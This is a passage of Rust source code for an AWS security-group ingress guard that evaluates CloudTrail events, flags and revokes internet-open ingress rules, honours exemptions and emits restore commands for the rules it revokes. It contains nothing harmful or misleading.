//! The ingress guard: parse ▶ evaluate ▶ plan ▶ act ▶ report for
//! security-group ingress events. [`assess`] is the pure part the CLI runs
//! offline; [`IngressGuard::handle`] adds what only AWS can tell and does.

use std::collections::btree_map::Entry;
use std::time::{Duration, Instant};

use time::Date;
use tracing::{info, warn};

use crate::finding::{Action, Finding, Severity};
use crate::guards::{failed_call, notify_if_due, preflight, GuardError, GuardSettings};
use crate::model::event::Event;
use crate::model::json::FieldError;
use crate::model::net::Source;
use crate::model::sg::{
    ChangeKind, Direction, PrefixListChange, PrefixListEntries, SgChange, SgRule,
    MODIFY_PREFIX_LIST,
};
use crate::model::tags::{ExemptionTagChange, TagAction};
use crate::policy::Policy;
use crate::ports::{
    Attempt, AttemptKey, AttemptState, AwsError, Clock, GroupInfo, IngressRemediator, Notifier,
    OrganizationUnits, RevocationLog, Revoked, SecurityGroups,
};
use crate::report::plan::{Plan, Revocation};
use crate::report::{Outcome, OutcomeKind, Report};
use crate::rules;
use crate::rules::ec2_sg::default_group::DEFAULT_GROUP;
use crate::rules::ec2_sg::external_source::EXTERNAL_SOURCE;
use std::collections::BTreeMap;
use time::OffsetDateTime;

/// Error codes after which the call changed nothing but the rule exists anyway.
const DUPLICATE_CODES: [&str; 2] = [
    "Client.InvalidPermission.Duplicate",
    "InvalidPermission.Duplicate",
];

/// Why an event is not evaluated, or `None` when it is.
pub fn skip_reason(event: &Event) -> Option<String> {
    failed_call(event, &DUPLICATE_CODES)
}

/// Findings and plan for a change, from the event and the policy alone.
pub fn assess(change: &SgChange, policy: &Policy) -> (Vec<Finding>, Option<Plan>) {
    let findings = rules::evaluate_sg(change, policy);
    let plan = Plan::for_change(change, &findings, policy);
    (findings, plan)
}

/// The verdict on a `CreateTags`/`DeleteTags` call: an alert when it sets or
/// removes the exemption tag on security groups (who, which groups, the
/// reason and expiry, whether it is honoured); otherwise not handled.
pub fn exemption_tag_report(
    event: &Event,
    policy: &Policy,
    today: Date,
) -> Result<Report, FieldError> {
    let Some(change) = ExemptionTagChange::from_event(event, &policy.exemption_tag_key)? else {
        return Ok(Report::not_handled(event));
    };
    let mut report = Report::for_event(event);
    report.resource = Some(change.resource());
    if let (TagAction::Set, Some(value)) = (change.action, &change.value) {
        let set_on = event_date(event).unwrap_or(today);
        report.exemption = Some(policy.tag_exemption_set_on(value, set_on, today));
    }
    report.exemption_tag = Some(change);
    Ok(report)
}

/// The day of the call (its `eventTime`), when it can be read.
pub fn event_date(event: &Event) -> Option<Date> {
    event_time(event).map(OffsetDateTime::date)
}

fn event_time(event: &Event) -> Option<OffsetDateTime> {
    OffsetDateTime::parse(&event.time, &time::format_description::well_known::Rfc3339).ok()
}

/// True for a `ModifyManagedPrefixList` call of EC2.
fn is_prefix_list_call(event: &Event) -> bool {
    event.name == MODIFY_PREFIX_LIST && event.is_from("ec2")
}

/// How an alert about a prefix list that now holds the internet says to fix it.
const PREFIX_LIST_FIX: &str =
    "Remove the entry from the prefix list, or stop referencing the list from security groups.";

/// The finding about entries added to a prefix list that open whatever
/// references it to the internet (EC2-SG-011, notify only: nothing is
/// revoked on this event). `referencing`: the security groups that reference
/// the list, when read (`None`: unknown — alerted as if some did).
pub fn prefix_list_finding(
    change: &PrefixListChange,
    policy: &Policy,
    referencing: Option<&[String]>,
) -> Option<Finding> {
    let rule = &EXTERNAL_SOURCE;
    let setting = rule.setting(policy);
    let opened = change.internet_entries(policy.wide);
    if setting.action == Action::Off || opened.is_empty() {
        return None;
    }
    let alerting = setting.severity.max(Severity::High);
    let (who, severity) = match referencing {
        None => (
            "every security-group rule that references it is open to the internet".to_string(),
            alerting,
        ),
        Some([]) => (
            "no security group references it (yet)".to_string(),
            setting.severity,
        ),
        Some(groups) => (
            format!(
                "open to the internet through it: {} (every rule that references the list)",
                groups.join(", ")
            ),
            alerting,
        ),
    };
    let opened: Vec<String> = opened.iter().map(ToString::to_string).collect();
    Some(Finding {
        fields: Default::default(),
        resource: None,
        rule: rule.id,
        severity,
        title: rule.title,
        detail: format!(
            "{} now holds {}: {who}",
            change.resource(),
            opened.join(", ")
        ),
        remediation: PREFIX_LIST_FIX,
        action: Action::Notify,
        target: None,
    })
}

/// The offline verdict on a `ModifyManagedPrefixList` call: the entries the
/// record says were added; which groups reference the list needs AWS.
pub fn prefix_list_report(event: &Event, policy: &Policy) -> Result<Report, FieldError> {
    let Some(change) = PrefixListChange::from_event(event)? else {
        return Ok(Report::not_handled(event));
    };
    let mut report = Report::for_event(event);
    report.resource = Some(change.resource());
    report
        .findings
        .extend(prefix_list_finding(&change, policy, None));
    if !report.findings.is_empty() {
        report.notes.push(format!(
            "which security groups reference {} needs AWS (GetManagedPrefixListAssociations): not read offline",
            change.list_id
        ));
    }
    Ok(report)
}

/// What offline cannot say about a change, in the report: the group's name
/// when the record lacks it (EC2-SG-010), and what the prefix lists its rules
/// reference hold (they are not read).
fn offline_unverified(change: &SgChange, policy: &Policy, report: &mut Report) {
    let judged = |rule: &rules::Rule| rule.setting(policy).action != Action::Off;
    if change.group_name.is_none() && judged(&DEFAULT_GROUP) && !change.rules.is_empty() {
        report.notes.push(format!(
            "the record does not name the group: whether {} is a VPC default group (EC2-SG-010) is unverified; the Lambda reads its name with DescribeSecurityGroups",
            change.resource()
        ));
    }
    for list in change.prefix_list_ids() {
        report.notes.push(format!(
            "prefix list {list} is not read offline: whether it holds the internet is unverified; the Lambda reads it with GetManagedPrefixListEntries"
        ));
    }
}

/// The offline verdict (CLI): what the Lambda would find and plan, with no AWS call.
pub fn evaluate_offline(event: &Event, policy: &Policy, today: Date) -> Result<Report, FieldError> {
    if let Some(reason) = skip_reason(event) {
        return Ok(Report::skipped(event, reason));
    }
    if ExemptionTagChange::is_tag_call(event) {
        return exemption_tag_report(event, policy, today);
    }
    if is_prefix_list_call(event) {
        return prefix_list_report(event, policy);
    }
    let Some(change) = SgChange::from_event(event)? else {
        return Ok(Report::not_handled(event));
    };
    let mut report = Report::for_event(event);
    report.resource = Some(change.resource());
    let (findings, plan) = assess(&change, policy);
    report.findings = findings;
    if let Some(plan) = plan {
        report.plan = plan.steps();
    }
    report.exemption =
        policy.exemption_for(change.group_id.as_deref(), &event.account, &[], &[], today);
    if event.error_code.is_some() {
        report.notes.push(
            "the rule already existed (duplicate): the Lambda re-reads the group's rules"
                .to_string(),
        );
    }
    if change.kind == ChangeKind::Modify && !report.findings.is_empty() {
        report.notes.push(
            "ModifySecurityGroupRules does not say ingress or egress: the Lambda verifies it with DescribeSecurityGroupRules"
                .to_string(),
        );
    }
    offline_unverified(&change, policy, &mut report);
    Ok(report)
}

/// What a planned rule is when read back right before revoking (DESIGN §7.8).
#[derive(Debug, Clone, PartialEq, Eq)]
enum Recheck {
    /// Still ingress, still in the group, still breaks a `revoke` rule: revoke this id.
    Offends(String),
    /// No longer in the group.
    Gone,
    /// Still there but no longer offending (narrowed, or egress): why.
    ChangedSince(String),
    /// Through a prefix list that could not be read again: the error code.
    /// Whether it still offends is unknown: never revoked.
    Unknown(String),
}

/// The AWS CLI command that authorizes `rule` on `group_id` again: the same
/// protocol (as EC2 wrote it), ports, source and description, so the same
/// traffic. The source is written as the guard reads it (host bits cleared,
/// a bare address as a /32); the rule's tags are not carried.
/// `None` for a source EC2 would not take (a CIDR that does not parse), and
/// for a region or group id that is not a plain word (never put in a shell
/// command as it came).
pub fn restore_command(region: &str, group_id: &str, rule: &SgRule) -> Option<String> {
    use crate::report::is_plain_word;
    if !is_plain_word(region) || !is_plain_word(group_id) {
        return None;
    }
    let mut permission = serde_json::Map::new();
    permission.insert("IpProtocol".into(), rule.ip_protocol.clone().into());
    if !rule.protocol.is_all_traffic() {
        if let Some(from) = rule.from_port {
            permission.insert("FromPort".into(), from.into());
        }
        if let Some(to) = rule.to_port {
            permission.insert("ToPort".into(), to.into());
        }
    }
    let mut entry = serde_json::Map::new();
    let key = match &rule.source {
        Source::Cidr(net) if net.addr().is_ipv4() => {
            entry.insert("CidrIp".into(), net.to_string().into());
            "IpRanges"
        }
        Source::Cidr(net) => {
            entry.insert("CidrIpv6".into(), net.to_string().into());
            "Ipv6Ranges"
        }
        Source::PrefixList(id) => {
            entry.insert("PrefixListId".into(), id.clone().into());
            "PrefixListIds"
        }
        Source::Group { group_id, user_id } => {
            entry.insert("GroupId".into(), group_id.clone()?.into());
            if let Some(user) = user_id {
                entry.insert("UserId".into(), user.clone().into());
            }
            "UserIdGroupPairs"
        }
        Source::Unparsed(_) => return None,
    };
    if let Some(description) = &rule.description {
        entry.insert("Description".into(), description.clone().into());
    }
    permission.insert(key.into(), serde_json::json!([entry]));
    let permissions = serde_json::Value::Array(vec![serde_json::Value::Object(permission)]);
    Some(format!(
        "aws ec2 authorize-security-group-ingress --region {region} --group-id {group_id} --ip-permissions '{}'",
        crate::report::shell_quoted_inner(&permissions.to_string())
    ))
}

/// The rule of `current` that `planned` is now: the same id, or on older
/// records the same ingress permission.
fn now_of<'c>(planned: &SgRule, current: &'c [SgRule]) -> Option<&'c SgRule> {
    match &planned.rule_id {
        Some(id) => current
            .iter()
            .find(|r| r.rule_id.as_deref() == Some(id.as_str())),
        None => current
            .iter()
            .find(|r| r.direction == Direction::Ingress && r.same_permission(planned)),
    }
}

/// Judges `planned` against the group's rules as they are now, in the
/// group's context as it is now (`group`: its id, name, account and the
/// prefix lists read again; no rules).
fn recheck(planned: &SgRule, group: &SgChange, current: &[SgRule], policy: &Policy) -> Recheck {
    let Some(now) = now_of(planned, current) else {
        return Recheck::Gone;
    };
    if now.direction != Direction::Ingress {
        return Recheck::ChangedSince(format!("{now}: EC2 does not say it is an ingress rule"));
    }
    if let Source::PrefixList(list) = &now.source {
        if let Some(PrefixListEntries::Unknown(why)) = group.prefix_lists.get(list) {
            return Recheck::Unknown(why.clone());
        }
    }
    let alone = group.with_rules(vec![now.clone()]);
    let offends = rules::evaluate_sg(&alone, policy)
        .iter()
        .any(|f| f.action == Action::Revoke && f.target == Some(0));
    match (&now.rule_id, offends) {
        (Some(id), true) => Recheck::Offends(id.clone()),
        (None, true) => Recheck::ChangedSince(format!("{now} has no rule id to revoke by")),
        (_, false) => Recheck::ChangedSince(format!(
            "{now} no longer breaks a revoke rule (changed since the event)"
        )),
    }
}

/// The ingress guard with its ports.
pub struct IngressGuard<'a> {
    pub groups: &'a dyn SecurityGroups,
    /// Where the event's account sits, for exemptions by OU (read only when
    /// the policy has one).
    pub organizations: Option<&'a dyn OrganizationUnits>,
    pub remediator: &'a dyn IngressRemediator,
    /// What earlier attempts of an event revoked (the state table): a retry
    /// reports `revoked (earlier attempt)`, not `already absent`.
    pub revocations: Option<&'a dyn RevocationLog>,
    pub notifier: &'a dyn Notifier,
    pub policy: &'a Policy,
    pub settings: &'a GuardSettings,
    /// When the invocation must have answered (Lambda's deadline): revoking
    /// rule by rule stops in time and leaves the rest to Lambda's retry.
    pub deadline: Option<Instant>,
    /// How long a missing rule or group is taken for not visible yet, right
    /// after the call (DESIGN §7.15). `None`: absence is proof at once (the
    /// sweep judges state it has just read, not a call just made).
    pub visibility: Option<Visibility<'a>>,
}

/// EC2 reads are eventually consistent: a group or rule missing right after
/// the successful call that created or modified it may not be visible yet
/// (DESIGN §7.15). Until the call is `settle` old, absence is no proof: the
/// guard reads again every `poll` for at most `wait`, and what is still
/// missing then makes the invocation fail (retryable, `NotYetVisible`) so
/// that Lambda retries it — never `already_absent`.
pub struct Visibility<'a> {
    /// Absence is proof only once the call (its `eventTime`) is this old.
    pub settle: Duration,
    /// How long one invocation reads again before it leaves the rest to Lambda's retry.
    pub wait: Duration,
    /// Between two reads.
    pub poll: Duration,
    pub clock: &'a dyn Clock,
}

impl Visibility<'_> {
    /// EC2 makes a change visible to its reads within seconds; CloudTrail
    /// delivers most events later than this, so most absences are proof at once.
    pub const SETTLE: Duration = Duration::from_secs(30);
    pub const WAIT: Duration = Duration::from_secs(5);
    pub const POLL: Duration = Duration::from_secs(1);

    /// When absence becomes proof: `settle` after the call; `None` when the
    /// record's time cannot be read (then it never does: fail closed).
    fn proof_at(&self, event: &Event) -> Option<OffsetDateTime> {
        event_time(event).and_then(|at| at.checked_add(self.settle.try_into().ok()?))
    }
}

/// The error that makes Lambda retry an invocation that found something
/// missing too soon after the call to call it gone.
fn not_yet_visible(operation: &'static str, what: &str) -> AwsError {
    AwsError {
        operation,
        code: Some("NotYetVisible".to_string()),
        message: format!(
            "{what} not found right after the call that created or modified it: not yet visible (EC2 reads are eventually consistent); read again on the retry"
        ),
        retryable: true,
    }
}

/// What one more revoke call may take (the SDK's operation timeout and a
/// margin), then the optional sinks after the alert.
const ONE_CALL: Duration = Duration::from_secs(13).saturating_add(super::sinks::SINKS_BUDGET);

impl IngressGuard<'_> {
    /// Handles one event end to end and returns the report that was published (if any).
    pub async fn handle(&self, event: &Event, today: Date) -> Result<Report, GuardError> {
        let aws = GuardError::aws(event);
        if let Some(skipped) = preflight(event, self.settings, &DUPLICATE_CODES) {
            return Ok(skipped);
        }
        if ExemptionTagChange::is_tag_call(event) {
            let mut report = exemption_tag_report(event, self.policy, today)
                .map_err(GuardError::parse(event))?;
            if report.exemption_tag.is_some() {
                info!(event_id = %event.id, groups = %report.resource.as_deref().unwrap_or_default(), "exemption tag changed");
                self.record_exemption_tag(event, &mut report, today)
                    .await
                    .map_err(aws)?;
            }
            notify_if_due(&mut report, self.policy, self.settings, self.notifier)
                .await
                .map_err(aws)?;
            return Ok(report);
        }
        if is_prefix_list_call(event) {
            let mut report = self.prefix_list_change(event).await.map_err(aws)?;
            notify_if_due(&mut report, self.policy, self.settings, self.notifier)
                .await
                .map_err(aws)?;
            return Ok(report);
        }
        let change = match SgChange::from_event(event) {
            Ok(Some(change)) => change,
            Ok(None) => return Ok(Report::not_handled(event)),
            Err(field) => return self.could_not_evaluate(event, field).await.map_err(aws),
        };
        let mut report = Report::for_event(event);
        report.resource = Some(change.resource());
        let mut change = self
            .enrich(event, change, true, &mut report)
            .await
            .map_err(aws)?;
        let (mut findings, mut plan) = assess(&change, self.policy);
        if needs_stored_rules(&change, plan.as_ref()) {
            change = self
                .complete(event, change, &mut report)
                .await
                .map_err(aws)?;
            // A source read back from EC2 may be a prefix list not read yet.
            change = self
                .enrich(event, change, false, &mut report)
                .await
                .map_err(aws)?;
            (findings, plan) = assess(&change, self.policy);
        }
        report.findings = findings;
        for f in &report.findings {
            info!(event_id = %event.id, rule = f.rule, severity = %f.severity, detail = %f.detail, "finding");
        }
        if let Some(plan) = plan {
            report.plan = plan.steps();
            self.act(event, &plan, &mut report, today)
                .await
                .map_err(aws)?;
        }
        self.remember_rules(event, &change, &report).await;
        notify_if_due(&mut report, self.policy, self.settings, self.notifier)
            .await
            .map_err(aws)?;
        Ok(report)
    }

    /// A successful record the guard could not read (fail closed): the alert
    /// says "could not evaluate" and names the field, with the group's current
    /// ingress rules judged instead (DescribeSecurityGroupRules). Nothing is
    /// revoked: the record does not say which rules the call created.
    async fn could_not_evaluate(
        &self,
        event: &Event,
        field: FieldError,
    ) -> Result<Report, AwsError> {
        warn!(event_id = %event.id, field = %field.path, problem = %field.problem, "could not evaluate");
        let mut report = Report::for_event(event);
        report.unevaluated = Some(field.to_string());
        let group_id = crate::model::sg::group_named(event);
        report.resource = group_id.clone();
        match group_id {
            None => report
                .notes
                .push("the record names no group: nothing could be read instead".to_string()),
            Some(group_id) => match self.groups.rules_of_group(&group_id).await {
                Ok(stored) => {
                    let current =
                        SgChange::current_ingress(&group_id, stored).with_account(&event.account);
                    let current = self.enrich(event, current, true, &mut report).await?;
                    report.findings = rules::evaluate_sg(&current, self.policy);
                    report.notes.push(format!(
                        "judged {group_id}'s current ingress rules instead (DescribeSecurityGroupRules); nothing revoked: the record does not say which rules the call created"
                    ));
                }
                Err(e) if e.retryable => return Err(e),
                Err(e) => report.notes.push(format!(
                    "could not read {group_id}'s rules either: {}",
                    e.code_or_kind()
                )),
            },
        }
        notify_if_due(&mut report, self.policy, self.settings, self.notifier).await?;
        Ok(report)
    }

    /// Fills in what the record cannot say, from the group's stored rules: the
    /// direction of modified rules, the stored source behind an unparseable
    /// CIDR, and the rule ids of older records and duplicate calls. A rule
    /// whose direction cannot be verified stays unverified: it is still
    /// judged and alerted, and never revoked.
    async fn complete(
        &self,
        event: &Event,
        mut change: SgChange,
        report: &mut Report,
    ) -> Result<SgChange, AwsError> {
        let Some(group_id) = change.group_id.clone() else {
            report
                .notes
                .push("the event names no group id: nothing can be revoked".to_string());
            return Ok(change);
        };
        let needs_lookup = |r: &SgRule| {
            r.rule_id.is_none()
                || r.direction == Direction::Unverified
                || matches!(r.source, Source::Unparsed(_))
        };
        let stored = match self.groups.rules_of_group(&group_id).await {
            Ok(stored) => stored,
            Err(e) if e.retryable => return Err(e),
            Err(e) => {
                warn!(event_id = %event.id, group_id = %group_id, error = %e, "cannot read the group's rules");
                report.notes.push(format!(
                    "could not read {group_id}'s rules ({}): what only EC2 can say (direction, rule ids) is unverified; a rule is revoked only if it reads back as offending ingress right before the revoke",
                    e.code_or_kind()
                ));
                return Ok(change);
            }
        };
        if event.error_code.is_some() {
            report.notes.push(
                "the rule already existed (duplicate call): judged the stored rule".to_string(),
            );
        }
        for rule in change.rules.iter_mut().filter(|r| needs_lookup(r)) {
            let found = match &rule.rule_id {
                Some(id) => stored
                    .iter()
                    .find(|s| s.rule_id.as_deref() == Some(id.as_str())),
                None => stored
                    .iter()
                    .find(|s| s.direction == Direction::Ingress && s.same_permission(rule)),
            };
            match found {
                Some(s) => {
                    rule.rule_id = s.rule_id.clone();
                    rule.direction = s.direction;
                    if matches!(rule.source, Source::Unparsed(_)) {
                        rule.source = s.source.clone();
                    }
                    // ModifySecurityGroupRules names a referenced group without its owner.
                    if let (
                        Source::Group {
                            group_id,
                            user_id: None,
                        },
                        Source::Group {
                            group_id: stored_group,
                            user_id: Some(_),
                        },
                    ) = (&rule.source, &s.source)
                    {
                        if group_id == stored_group {
                            rule.source = s.source.clone();
                        }
                    }
                }
                None if rule.direction == Direction::Unverified => {
                    report.notes.push(format!(
                        "{rule} no longer exists: its direction cannot be verified (judged as ingress, not revoked)"
                    ));
                }
                None => {}
            }
        }
        change.rules.retain(|r| r.direction != Direction::Egress);
        Ok(change)
    }

    /// Carries out the plan, reporting one outcome per rule: reads the
    /// group's tags (exemptions), reads every planned rule back right before
    /// revoking (invariant 8), and revokes what still offends in one call.
    pub(crate) async fn act(
        &self,
        event: &Event,
        plan: &Plan,
        report: &mut Report,
        today: Date,
    ) -> Result<(), AwsError> {
        let fail_all = |report: &mut Report, code: String| {
            for r in &plan.revocations {
                report
                    .outcomes
                    .push(outcome(r.label(), OutcomeKind::Failed, Some(code.clone())));
            }
        };
        let group = match self.group_until_visible(event, &plan.group_id).await {
            Ok(group) => group,
            Err(e) if e.retryable => return Err(e),
            Err(e) => {
                // Without the tags we cannot know the group is not exempt: revoke nothing.
                warn!(event_id = %event.id, group_id = %plan.group_id, error = %e, "cannot read the group");
                report.notes.push(format!(
                    "could not read the group's tags: {}",
                    e.code_or_kind()
                ));
                fail_all(report, e.code_or_kind());
                return Ok(());
            }
        };
        if let Some(group) = &group {
            report.location.group_name = Some(group.name.clone()).filter(|n| !n.is_empty());
            report.location.vpc_id.clone_from(&group.vpc_id);
        }
        let Some(group) = group else {
            for r in &plan.revocations {
                report
                    .outcomes
                    .push(outcome(r.label(), OutcomeKind::AlreadyAbsent, None));
            }
            report
                .notes
                .push(format!("{} no longer exists", plan.group_id));
            return Ok(());
        };
        let ous = if self.policy.has_ou_exemptions() {
            let read = match self.organizations {
                Some(organizations) => organizations.ous_of(&event.account).await,
                None => Err(AwsError {
                    operation: "ListParents",
                    code: Some("NoOrganizationsClient".to_string()),
                    message: "this guard cannot read OUs".to_string(),
                    retryable: false,
                }),
            };
            match read {
                Ok(ous) => ous,
                Err(e) if e.retryable => return Err(e),
                Err(e) => {
                    // Without them we cannot know the account is not exempt: revoke nothing.
                    warn!(event_id = %event.id, account = %event.account, error = %e, "cannot read the account's OUs");
                    report.notes.push(format!(
                        "could not read the OUs of account {} (exemptions by OU): {}",
                        event.account,
                        e.code_or_kind()
                    ));
                    fail_all(report, e.code_or_kind());
                    return Ok(());
                }
            }
        } else {
            Vec::new()
        };
        report.exemption = self.policy.exemption_for(
            Some(&group.group_id),
            &event.account,
            &ous,
            &group.tags,
            today,
        );
        if let Err(e) = self
            .judge_tag_from_when_set(event, &group, report, today)
            .await
        {
            if e.retryable {
                return Err(e);
            }
            // Without it we cannot know the tag was not invalid when set: revoke nothing.
            warn!(event_id = %event.id, group_id = %group.group_id, error = %e, "cannot read when the exemption tag was set");
            report.notes.push(format!(
                "could not read from the state table when the exemption tag of {} was set: {}",
                group.group_id,
                e.code_or_kind()
            ));
            fail_all(report, e.code_or_kind());
            return Ok(());
        }
        let exempt = report.exemption.as_ref().is_some_and(|e| e.is_active());
        if exempt {
            for r in &plan.revocations {
                report
                    .outcomes
                    .push(outcome(r.label(), OutcomeKind::Exempt, None));
            }
        } else {
            self.recheck_and_revoke(event, plan, &group, report).await?;
        }
        for r in &plan.held_back {
            report
                .outcomes
                .push(outcome(r.label(), OutcomeKind::HeldBack, None));
        }
        Ok(())
    }

    /// Reads the planned rules back and revokes those that still offend
    /// (dry run: says it would), all in one call; when EC2 rejects the batch
    /// (one rule went meanwhile, say), one call per rule. A planned rule
    /// missing from the read-back was revoked by an earlier attempt of this
    /// event (the state table says so), or is gone for good once the call is
    /// old enough; until then it is not visible yet, and the invocation fails
    /// after revoking the rest so that Lambda retries (DESIGN §7.15).
    async fn recheck_and_revoke(
        &self,
        event: &Event,
        plan: &Plan,
        group: &GroupInfo,
        report: &mut Report,
    ) -> Result<(), AwsError> {
        let group_id = plan.group_id.as_str();
        let mut current = match self.groups.rules_of_group(group_id).await {
            Ok(current) => current,
            Err(e) if e.retryable => return Err(e),
            Err(e) => {
                warn!(event_id = %event.id, group_id = %group_id, error = %e, "cannot read the rules back");
                report.notes.push(format!(
                    "could not read the rules back before revoking: {}: nothing revoked",
                    e.code_or_kind()
                ));
                for r in &plan.revocations {
                    report.outcomes.push(outcome(
                        r.label(),
                        OutcomeKind::Failed,
                        Some(e.code_or_kind()),
                    ));
                }
                return Ok(());
            }
        };
        // Missing: an earlier attempt of this event revoked it (or began to)?
        let mut earlier: BTreeMap<String, Attempt> = BTreeMap::new();
        // Rules whose earlier attempts could not be read, with the code: never
        // `already_absent` (an earlier attempt may have revoked them).
        let mut unread: BTreeMap<String, String> = BTreeMap::new();
        for r in &plan.revocations {
            if now_of(&r.rule, &current).is_none() {
                match self.earlier_attempt(event, &r.label(), report).await {
                    Ok(Some(attempt)) if attempt.state != AttemptState::NotRevoked => {
                        earlier.insert(r.label(), attempt);
                    }
                    Ok(_) => {}
                    Err(code) => {
                        unread.insert(r.label(), code);
                    }
                }
            }
        }
        // Else perhaps not visible yet: read again while the call is recent.
        let unseen = |current: &[SgRule]| {
            plan.revocations
                .iter()
                .any(|r| now_of(&r.rule, current).is_none() && !earlier.contains_key(&r.label()))
        };
        if unseen(&current) {
            let started = self.now();
            while unseen(&current)
                && !self.absence_proven(event)
                && self.wait_to_read_again(event, started).await
            {
                current = self.groups.rules_of_group(group_id).await?;
            }
        }
        let mut not_visible: Vec<String> = Vec::new();
        // The group as it is now: its name, the event's account, and the
        // prefix lists the planned rules reference now, read again.
        let mut context = SgChange::current_ingress(group_id, Vec::new())
            .with_group_name(&group.name)
            .with_account(&event.account);
        for r in &plan.revocations {
            if let Some(Source::PrefixList(list)) = now_of(&r.rule, &current).map(|now| &now.source)
            {
                if let Entry::Vacant(slot) = context.prefix_lists.entry(list.clone()) {
                    let read = self.read_prefix_list(event, list, report).await?;
                    slot.insert(read);
                }
            }
        }
        let mut offending: Vec<(&Revocation, String)> = Vec::new();
        for r in &plan.revocations {
            match recheck(&r.rule, &context, &current, self.policy) {
                Recheck::Offends(id) => offending.push((r, id)),
                Recheck::Gone => match earlier.get(&r.label()) {
                    Some(attempt) => {
                        info!(event_id = %event.id, group_id = %group_id, rule_id = %r.label(), "revoked by an earlier attempt");
                        let restore = attempt.restore.clone().or_else(|| {
                            // Recorded before attempts kept their command.
                            (event.name != crate::model::sg::MODIFY_RULES)
                                .then(|| restore_command(&event.region, group_id, &r.rule))
                                .flatten()
                        });
                        report.outcomes.push(Outcome {
                            earlier_attempt: true,
                            restore,
                            ..outcome(r.label(), OutcomeKind::Revoked, None)
                        });
                    }
                    None if unread.contains_key(&r.label()) => report.outcomes.push(outcome(
                        r.label(),
                        OutcomeKind::Failed,
                        unread.get(&r.label()).cloned(),
                    )),
                    None if self.absence_proven(event) => {
                        report
                            .outcomes
                            .push(outcome(r.label(), OutcomeKind::AlreadyAbsent, None))
                    }
                    None => not_visible.push(r.label()),
                },
                Recheck::ChangedSince(why) => {
                    info!(event_id = %event.id, group_id = %group_id, rule_id = %r.label(), why = %why, "changed since the event");
                    report.notes.push(why);
                    report
                        .outcomes
                        .push(outcome(r.label(), OutcomeKind::ChangedSince, None));
                }
                Recheck::Unknown(why) => {
                    warn!(event_id = %event.id, group_id = %group_id, rule_id = %r.label(), why = %why, "prefix list unreadable before revoking");
                    report.notes.push(format!(
                        "{}: its prefix list could not be read again right before revoking ({why}): not revoked",
                        r.label()
                    ));
                    report
                        .outcomes
                        .push(outcome(r.label(), OutcomeKind::Failed, Some(why)));
                }
            }
        }
        if self.policy.dry_run {
            for (r, _) in &offending {
                report
                    .outcomes
                    .push(outcome(r.label(), OutcomeKind::DryRun, None));
            }
        } else if !offending.is_empty() {
            self.revoke(
                event,
                group_id,
                &offending,
                &current,
                report,
                &mut not_visible,
            )
            .await?;
        }
        if !not_visible.is_empty() {
            warn!(event_id = %event.id, group_id = %group_id, rules = %not_visible.join(", "), "not visible yet");
            return Err(not_yet_visible(
                "DescribeSecurityGroupRules",
                &format!("{group_id}: {}", not_visible.join(", ")),
            ));
        }
        Ok(())
    }

    /// Revokes the rules that still offend: the intent recorded first, then
    /// one call, or one call per rule when EC2 rejects the batch.
    async fn revoke(
        &self,
        event: &Event,
        group_id: &str,
        offending: &[(&Revocation, String)],
        current: &[SgRule],
        report: &mut Report,
        not_visible: &mut Vec<String>,
    ) -> Result<(), AwsError> {
        let mut restores = Vec::new();
        for (r, id) in offending {
            let restore = self.restore_for(event, group_id, r, current, report).await;
            self.log_attempt(
                event,
                group_id,
                id,
                AttemptState::Intended,
                restore.as_deref(),
                report,
            )
            .await;
            restores.push(restore);
        }
        let ids: Vec<&str> = offending.iter().map(|(_, id)| id.as_str()).collect();
        let batch = self.remediator.revoke_ingress(group_id, &ids).await;
        let per_rule = match &batch {
            Ok(Revoked::Revoked) => false,
            Err(e) if e.retryable => return Err(e.clone()),
            _ if ids.len() == 1 => false,
            Ok(Revoked::AlreadyAbsent) | Err(_) => true,
        };
        for (done, ((r, id), restore)) in offending.iter().zip(restores).enumerate() {
            if per_rule && self.deadline.is_some_and(|d| Instant::now() + ONE_CALL > d) {
                // Each rule is read back again on the retry: nothing is lost.
                return Err(AwsError {
                    operation: "RevokeSecurityGroupIngress",
                    code: Some("OutOfTime".to_string()),
                    message: format!(
                        "{} of {} rules left to revoke one by one and too little time before the deadline",
                        offending.len() - done,
                        offending.len()
                    ),
                    retryable: true,
                });
            }
            let result = if per_rule {
                self.remediator
                    .revoke_ingress(group_id, &[id.as_str()])
                    .await
            } else {
                batch.clone()
            };
            let state = match &result {
                Ok(Revoked::Revoked) => AttemptState::Revoked,
                // The call may have gone through: the intent stands.
                Err(e) if e.retryable => return Err(e.clone()),
                Ok(Revoked::AlreadyAbsent) | Err(_) => AttemptState::NotRevoked,
            };
            self.log_attempt(event, group_id, id, state, restore.as_deref(), report)
                .await;
            let o = match result {
                Ok(Revoked::Revoked) => Outcome {
                    restore,
                    ..outcome(r.label(), OutcomeKind::Revoked, None)
                },
                Ok(Revoked::AlreadyAbsent) if !self.absence_proven(event) => {
                    // Read as there a moment ago, unknown to the revoke: retried.
                    not_visible.push(r.label());
                    continue;
                }
                Ok(Revoked::AlreadyAbsent) => outcome(r.label(), OutcomeKind::AlreadyAbsent, None),
                Err(e) => {
                    warn!(event_id = %event.id, group_id = %group_id, rule_id = %id, error = %e, "revoke failed");
                    outcome(r.label(), OutcomeKind::Failed, Some(e.code_or_kind()))
                }
            };
            info!(event_id = %event.id, group_id = %group_id, rule_id = %o.rule_id, outcome = ?o.result, "outcome");
            report.outcomes.push(o);
        }
        Ok(())
    }

    /// The command that puts a revoked rule back as the operator had it: the
    /// rule as read back for a rule the call created; for a rule the call
    /// modified, the rule as it was before the modification, which only the
    /// state table can tell (the record carries the new rule alone), and a
    /// note saying so when it cannot.
    async fn restore_for(
        &self,
        event: &Event,
        group_id: &str,
        r: &Revocation,
        current: &[SgRule],
        report: &mut Report,
    ) -> Option<String> {
        let revoked = now_of(&r.rule, current).unwrap_or(&r.rule);
        if !(event.name == crate::model::sg::MODIFY_RULES && event.is_from("ec2")) {
            return restore_command(&event.region, group_id, revoked);
        }
        let before = match (self.revocations, &revoked.rule_id) {
            (Some(log), Some(id)) => log.rule_as_seen(&event.account, &event.region, id).await,
            _ => Ok(None),
        };
        let why = match before {
            Ok(Some(command)) => return Some(command),
            Ok(None) => "the record carries only the new rule and the state table holds no earlier sight of it".to_string(),
            Err(e) => {
                warn!(event_id = %event.id, rule_id = %r.label(), error = %e, "cannot read the rule as it was");
                format!(
                    "the record carries only the new rule and the state table could not be read ({})",
                    e.code_or_kind()
                )
            }
        };
        report.notes.push(format!(
            "{}: the rule as it was before ModifySecurityGroupRules is not known ({why}): no restore command; the rule revoked was {revoked}",
            r.label()
        ));
        None
    }
}

impl IngressGuard<'_> {
    fn now(&self) -> OffsetDateTime {
